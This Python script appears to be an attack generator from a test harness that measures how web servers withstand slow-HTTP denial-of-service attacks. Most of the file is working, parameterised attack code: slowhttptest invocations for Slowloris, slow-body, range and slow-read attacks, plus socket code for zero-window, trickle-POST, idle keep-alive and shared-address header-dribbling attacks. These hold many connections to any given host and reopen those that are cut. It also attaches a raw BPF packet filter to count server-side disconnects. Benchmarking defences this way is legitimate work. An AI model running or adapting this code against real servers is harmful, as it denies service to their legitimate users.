"""generators.py ATTACK ... - one attack, and what its server's side does to its connections.

purpose     Holds N connections in the attack's way, opened at N/5 a second, until SIGTERM. A connection that the
            other side ends is opened again, as a real attacker would.
events      JSON lines: every 100 ms how many connections the kernel calls established, how many were opened and how
            many the server's side ended; at once, the first of those ("cut"). If honest clients are in the same
            namespace (--source), the ports of its own connections too, so that they can be told apart.
"""

import argparse
import collections
import ctypes
import heapq
import json
import select
import signal
import socket
import struct
import subprocess
import sys
import time

SLOWHTTPTEST = {
    # Slowloris: a header line every 10 s. R-U-Dead-Yet: a form field every 10 s. Overlapping ranges. Slow reading.
    "slow-headers": ["-H", "-i", "10", "-x", "24"],
    "slow-body": ["-B", "-i", "10", "-s", "8192", "-x", "10"],
    "range": ["-R", "-a", "10", "-b", "3000"],
    "slow-read": ["-X", "-w", "1", "-y", "512", "-n", "5", "-z", "5", "-k", "3"],
}
PATHS = {"slow-body": "/upload.txt", "slow-read": "/big.bin", "zero-window": "/big.bin", "trickle-post": "/upload.txt",
         "range": "/file.bin"}
# From behind the address that the browsers of the honest load share; a header line every so many seconds.
SHARED = {"shared-headers"}
HEADER_INTERVAL = 10.0
# A server that does well closes these connections too: a cut says nothing about a defence.
CLOSED_ANYWAY = {"range", "idle-keepalive"}
TRICKLE_INTERVAL = 50.0
REPORT_INTERVAL = 0.1
HELD_SECONDS = 1.0


class Watch:
    """Counts the connections that the attacked port's side ends by FIN or RST after it had held them for a while.

    One that ends sooner was not held: slowhttptest has a probe of its own, which is answered and closed.
    """

    def __init__(self, port: int, own: bool) -> None:
        """own: only connections that own() was told of; others in this namespace are somebody else's."""
        # ip[9] == TCP, no fragment, source port == port, flags & (FIN | SYN | RST); else drop.
        program = [(0x30, 0, 0, 9), (0x15, 0, 8, 6), (0x28, 0, 0, 6), (0x45, 6, 0, 0x1fff), (0xb1, 0, 0, 0),
                   (0x48, 0, 0, 0), (0x15, 0, 3, port), (0x50, 0, 0, 13), (0x45, 0, 1, 0x07), (0x06, 0, 0, 64),
                   (0x06, 0, 0, 0)]
        code = b"".join(struct.pack("HBBI", *one) for one in program)
        buffer = ctypes.create_string_buffer(code, len(code))
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK, socket.htons(0x0800))
        self.socket.setsockopt(socket.SOL_SOCKET, 26,  # SO_ATTACH_FILTER
                               struct.pack("HL", len(program), ctypes.addressof(buffer)))
        self.count = self.opened = 0
        self._since = {}  # our port: when the connection was made
        self._own = set() if own else None

    def drain(self) -> int:
        """How many were ended since the last call."""
        before = self.count
        while True:
            try:
                data, address = self.socket.recvfrom(64)
            except BlockingIOError:
                return self.count - before
            if address[2] != socket.PACKET_OUTGOING:
                header = (data[0] & 15) * 4
                self._segment(int.from_bytes(data[header + 2:header + 4], "big"), data[header + 13])

    def own(self, port: int) -> None:
        if self._own is not None:
            self._own.add(port)

    def _segment(self, port: int, flags: int) -> None:
        if self._own is not None and port not in self._own:
            return
        now = time.monotonic()
        if flags & 0x02:  # SYN
            self._since[port] = now
            self.opened += 1
            return
        self.count += now - self._since.pop(port, now) >= HELD_SECONDS
        if self._own is not None:
            self._own.discard(port)  # it may be somebody else's next


def established(port: int) -> int:
    """Connections to the port that this namespace's kernel calls established."""
    suffix, count = f":{port:04X}", 0
    with open("/proc/thread-self/net/tcp", encoding="ascii") as table:
        next(table)
        for line in table:
            words = line.split()
            count += words[2].endswith(suffix) and words[3] == "01"
    return count


class Reporter:
    def __init__(self, options) -> None:
        self._port = options.port
        self.watch = Watch(options.port, bool(options.source))
        self._due = time.monotonic()
        self._ports = [] if options.source else None  # that were opened since the last report
        self.held = None  # a function, if the namespace's kernel does not know them from others

    def opened(self, port: int) -> None:
        self.watch.own(port)
        if self._ports is not None:
            self._ports.append(port)

    @staticmethod
    def write(event: dict) -> None:
        sys.stdout.write(json.dumps(event) + "\n")
        sys.stdout.flush()

    def turn(self) -> None:
        """Call it often: notices cuts, and reports when it is time to."""
        now, first = time.monotonic(), self.watch.count == 0
        if self.watch.drain() and first:
            self.write({"kind": "cut", "t": now})
        if now >= self._due:
            self._due = now + REPORT_INTERVAL
            event = {"kind": "attack", "t": now, "open": self.held() if self.held else established(self._port),
                     "opened": self.watch.opened, "cuts": self.watch.count}
            if self._ports is not None:
                event["ports"], self._ports = self._ports, []
            self.write(event)


class Holder:
    """Own attacks: many sockets, one epoll set, a heap of what is to be sent when."""

    def __init__(self, options, reporter: Reporter) -> None:
        self._options, self._reporter = options, reporter
        self._epoll = select.epoll()
        self._sockets = {}
        self._connecting = set()
        self._due = []  # (time, descriptor, socket)
        self._credit, self._then = 0.0, time.monotonic()
        host = f"Host: {options.host}\r\n"
        path = PATHS.get(options.attack, "/page.txt")
        self._request = {
            "zero-window": f"GET {path} HTTP/1.1\r\n{host}\r\n",
            "trickle-post": f"POST {path} HTTP/1.1\r\n{host}Content-Length: 1000000\r\n\r\n",
            "idle-keepalive": f"GET {path} HTTP/1.1\r\n{host}Connection: keep-alive\r\n\r\n",
            "shared-headers": f"GET {path} HTTP/1.1\r\n{host}User-Agent: {'x' * 150}\r\n",
        }[options.attack].encode()
        if options.source:
            reporter.held = lambda: len(self._sockets) - len(self._connecting)
        self._again = {"zero-window": None, "trickle-post": (TRICKLE_INTERVAL, b"x"),
                       "idle-keepalive": (options.keep_alive, self._request),
                       "shared-headers": (HEADER_INTERVAL, b"X-a: b\r\n")}[options.attack]

    def _open(self) -> None:
        one = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        if self._options.attack == "zero-window":
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        if self._options.source:
            one.bind((self._options.source, 0))
            self._reporter.opened(one.getsockname()[1])
        one.connect_ex((self._options.host, self._options.port))
        self._sockets[one.fileno()] = one
        self._connecting.add(one.fileno())
        self._epoll.register(one.fileno(), select.EPOLLOUT)

    def _close(self, number: int) -> None:
        self._connecting.discard(number)
        self._epoll.unregister(number)
        self._sockets.pop(number).close()

    def _connected(self, number: int) -> None:
        one = self._sockets[number]
        if one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self._close(number)
            return
        self._connecting.discard(number)
        one.send(self._request)
        # Errors are always told; who never reads does not want to hear of data either.
        self._epoll.modify(number, 0 if self._options.attack == "zero-window" else select.EPOLLIN)
        self._later(one)

    def _later(self, one: socket.socket) -> None:
        if self._again:
            heapq.heappush(self._due, (time.monotonic() + self._again[0], one.fileno(), id(one), one))

    def _event(self, number: int, events: int) -> None:
        if number in self._connecting:
            self._connected(number)
            return
        if events & (select.EPOLLERR | select.EPOLLHUP):
            self._close(number)
            return
        try:
            if not self._sockets[number].recv(65536):
                self._close(number)
        except ConnectionError:
            self._close(number)

    def _send_due(self) -> None:
        while self._due and self._due[0][0] <= time.monotonic():
            one = heapq.heappop(self._due)[3]
            if one.fileno() < 0:
                continue  # closed in the meantime
            try:
                one.send(self._again[1])
            except BlockingIOError:
                pass  # the server does not even take this; the connection is held all the same
            except ConnectionError:
                self._close(one.fileno())
                continue
            self._later(one)

    def _open_more(self) -> None:
        now = time.monotonic()
        rate = self._options.rate
        self._credit = min(rate / 4, self._credit + (now - self._then) * rate)
        self._then = now
        while self._credit >= 1 and len(self._sockets) < self._options.connections:
            self._credit -= 1
            self._open()

    def run(self, stop) -> None:
        watch = self._reporter.watch.socket.fileno()
        self._epoll.register(watch, select.EPOLLIN)
        while not stop:
            self._open_more()
            self._send_due()
            for number, events in self._epoll.poll(0.02, 256):
                if number != watch:
                    self._event(number, events)
            self._reporter.turn()


def run_slowhttptest(options, reporter: Reporter, stop) -> None:
    """The tool gives up when everything was cut; then it is started again."""
    path = PATHS.get(options.attack, "/page.txt")
    command = ["slowhttptest", *SLOWHTTPTEST[options.attack], "-c", options.connections, "-r", options.rate,
               "-l", 3600, "-p", 3, "-v", 1, "-u", f"http://{options.host}:{options.port}{path}"]
    poller = select.poll()
    poller.register(reporter.watch.socket, select.POLLIN)
    tool, starts = None, collections.deque(maxlen=5)
    try:
        while not stop:
            if tool is None or tool.poll() is not None:
                if len(starts) == 5 and time.monotonic() - starts[0] < 2:
                    raise RuntimeError(f"slowhttptest ends at once, with status {tool.returncode}")
                starts.append(time.monotonic())
                tool = subprocess.Popen([str(word) for word in command], stdin=subprocess.DEVNULL,
                                        stdout=subprocess.DEVNULL, stderr=sys.stderr)
            poller.poll(20)
            reporter.turn()
    finally:
        if tool is not None:
            tool.kill()
            tool.wait(10)


ATTACKS = [*SLOWHTTPTEST, "zero-window", "trickle-post", "idle-keepalive", *SHARED]


def main() -> int:
    parser = argparse.ArgumentParser(prog="generators.py", description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--rate", type=int, required=True, help="connections opened a second")
    parser.add_argument("--source", help="an address to come from, which others in this namespace have too")
    parser.add_argument("--keep-alive", type=float, default=4.5, help="idle-keepalive asks again after SECONDS")
    options = parser.parse_args()
    if options.source and options.attack in SLOWHTTPTEST:
        parser.error("slowhttptest takes no source address")
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    reporter = Reporter(options)
    if options.attack in SLOWHTTPTEST:
        run_slowhttptest(options, reporter, stop)
    else:
        Holder(options, reporter).run(stop)
    return 0


if __name__ == "__main__":
    sys.exit(main())
